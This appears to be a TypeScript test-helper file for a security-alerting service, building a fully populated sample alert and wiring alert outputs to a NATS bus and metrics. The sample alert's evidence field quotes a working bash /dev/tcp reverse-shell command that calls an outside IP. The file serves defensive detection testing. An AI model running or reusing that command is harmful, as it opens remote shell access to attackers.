// Spec helpers for the alert outputs: an alert with every field set, the ALERTS stream on a real
// nats-server, and AlertOutputs wired to chosen sinks.
import { connectBus, provision, publish, subjects, type Bus } from '@omega/bus';
import { Alert, AlertStatus, DetectorKind, EntityKind, Severity } from '@omega/proto';
import { createLogger } from '@omega/runtime';
import { Registry } from 'prom-client';
import { AlertOutputs } from '../outputs/alert-outputs';
import type { AlertSink } from '../outputs/output-queue';
import { outputsConfigSchema, type OutputConfig } from '../outputs/outputs-config';

export const silentLogger = createLogger({ service: 'intelligence', level: 'silent' });

/** 2026-12-07T22:18:33.123456789Z */
export const SAMPLE_TIME_NS = 1_796_681_913_123_456_789n;

/** A reverse-shell alert with every field of the Alert message set. */
export function sampleAlert(overrides: Partial<Alert> = {}): Alert {
  return Alert.fromPartial({
    id: '01938a5e-7c1f-7a3b-9c2d-4e5f60718293',
    timeNs: SAMPLE_TIME_NS,
    severity: Severity.SEVERITY_HIGH,
    title: 'Reverse shell from shop/cart-7f9c to 203.0.113.9',
    ruleId: 'sigma:0b6a6f0e-3f7c-4d4e-9a51-1c2d3e4f5a02',
    ruleName: 'Reverse shell via bash /dev/tcp',
    detectorKind: DetectorKind.DETECTOR_KIND_RULE,
    attackTechniqueIds: ['T1059.004', 'T1071'],
    attackTacticIds: ['TA0002', 'TA0011'],
    entities: [
      {
        kind: EntityKind.ENTITY_KIND_POD,
        value: 'shop/cart-7f9c',
        displayName: 'cart-7f9c',
        isActor: true,
      },
      { kind: EntityKind.ENTITY_KIND_NAMESPACE, value: 'shop', displayName: '', isActor: false },
      {
        kind: EntityKind.ENTITY_KIND_CONTAINER,
        value: 'containerd://4f1c2a',
        displayName: 'cart',
        isActor: true,
      },
      {
        kind: EntityKind.ENTITY_KIND_CONTAINER_IMAGE,
        value: 'registry.example/shop/cart@sha256:ab12',
        displayName: '',
        isActor: false,
      },
      {
        kind: EntityKind.ENTITY_KIND_PROCESS,
        value: 'node-a:4242:1700000000',
        displayName: 'bash',
        isActor: true,
      },
      {
        kind: EntityKind.ENTITY_KIND_IP_ADDRESS,
        value: '203.0.113.9',
        displayName: '',
        isActor: false,
      },
      { kind: EntityKind.ENTITY_KIND_NODE, value: 'node-a', displayName: '', isActor: false },
    ],
    evidence: [
      {
        eventId: 'evt-1',
        eventIndex: 3,
        batch: {
          senderId: 'spiffe://omega.local/sentinel/node-a',
          sessionId: 's-1',
          sequence: 17n,
          streamSequence: 9_007_199_254_740_993n,
        },
      },
    ],
    explanation:
      'bash in shop/cart-7f9c opened /dev/tcp/203.0.113.9/4444 and duplicated the socket onto stdin and stdout.',
    reasons: [
      {
        summary: 'bash redirected stdio to a TCP socket',
        feature: 'process.cmd_line',
        observedValue: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
        expectedValue: 'no /dev/tcp redirection',
        weight: 1,
        eventIds: ['evt-1'],
      },
    ],
    incidentId: 'inc-01938a5e',
    confidence: 90,
    status: AlertStatus.ALERT_STATUS_NEW,
    observed: { startTimeNs: SAMPLE_TIME_NS - 2_000_000_000n, endTimeNs: SAMPLE_TIME_NS },
    count: 2,
    node: 'node-a',
    audit: { logIndex: 41n, leafHash: Buffer.alloc(32, 0xab), checkpointSize: 42n },
    labels: { team: 'payments' },
    ...overrides,
  });
}

/** A bus with ALERTS (and DLQ) provisioned on the given server. */
export async function alertsBus(url: string, name: string): Promise<Bus> {
  const bus = await connectBus({ servers: url, name, logger: silentLogger });
  await provision(bus, { streams: ['ALERTS', 'DLQ'] });
  return bus;
}

/** Publishes alerts to ALERTS as intelligence does. */
export async function publishAlerts(bus: Bus, alerts: readonly Alert[]): Promise<void> {
  for (const alert of alerts) {
    await publish(bus, subjects.alerts('high'), Alert, alert, { msgId: alert.id });
  }
}

/** Parses outputs as the service's configuration would (defaults applied). */
export function outputsOf(outputs: unknown[]): OutputConfig[] {
  return outputsConfigSchema.parse(outputs);
}

/** AlertOutputs on `bus` for `outputs`, with `sinkOf` when given, started. */
export async function startOutputs(
  bus: Bus,
  outputs: unknown[],
  options: {
    registry?: Registry;
    sinkOf?: (output: OutputConfig) => AlertSink;
    nowMs?: () => number;
  } = {},
): Promise<{ outputs: AlertOutputs; registry: Registry }> {
  const registry = options.registry ?? new Registry();
  const started = new AlertOutputs({
    bus,
    outputs: outputsOf(outputs),
    maxAlertAgeMs: 3_600_000,
    registry,
    logger: silentLogger,
    nowMs: options.nowMs ?? (() => Number(SAMPLE_TIME_NS / 1_000_000n) + 1000),
    ...(options.sinkOf ? { sinkOf: options.sinkOf } : {}),
  });
  await started.start();
  return { outputs: started, registry };
}

/** A counter's value for labels (0 when never incremented). */
export async function metricValue(
  registry: Registry,
  name: string,
  labels: Record<string, string>,
): Promise<number> {
  const metric = registry.getSingleMetric(name);
  if (!metric) return 0;
  const { values } = await metric.get();
  const found = values.find((v) => Object.entries(labels).every(([k, l]) => v.labels[k] === l));
  return found?.value ?? 0;
}
